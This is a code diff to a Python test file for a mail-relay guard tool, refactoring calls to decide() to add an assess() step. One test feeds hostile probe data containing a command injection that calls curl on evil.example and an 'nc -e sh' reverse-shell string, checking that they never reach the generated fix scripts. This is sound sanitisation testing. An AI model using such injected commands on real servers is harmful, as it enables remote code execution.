@@ -5,7 +5,7 @@ from __future__ import annotations
 from dataclasses import replace
 
 import pytest
-from relayguard.domain.decide import decide
+from relayguard.domain.decide import assess, decide
 from relayguard.domain.models import Generation, Mode, Plan, Policy, Step, StepName, StepResult
 from relayguard.domain.probe import parse_probe
 from relayguard.domain.script import (
@@ -24,7 +24,8 @@ EXIM = "/usr/local/cpanel/scripts/restartsrv_exim"
 
 
 def plan_for(facts: dict[str, str], policy: Policy = FIX) -> Plan:
-    return decide(parse_probe(probe_text(facts)), policy)
+    finding = parse_probe(probe_text(facts))
+    return decide(finding, assess(finding), policy)
 
 
 # --- render_disable ----------------------------------------------------------------------------
@@ -137,7 +138,8 @@ def test_no_server_data_but_the_validated_ip_and_sender_reaches_the_scripts() ->
         "list.recent_authed_mail_ips_users.hex": hx("203.0.113.9: eve$(curl evil.example)\n"),
         "exc.alwaysrelay.kind": "file", "exc.alwaysrelay.hex": hx("10.0.0.1|nc -e sh\n"),
     }
-    plan = decide(parse_probe(probe_text(hostile)), Policy(mode=Mode.FIX, disable_tracker=True))
+    finding = parse_probe(probe_text(hostile))
+    plan = decide(finding, assess(finding), Policy(mode=Mode.FIX, disable_tracker=True))
     # WHEN both fix scripts render
     text = render_disable(plan) + render_finish(plan)
     # THEN only the validated address and the fallback sender appear
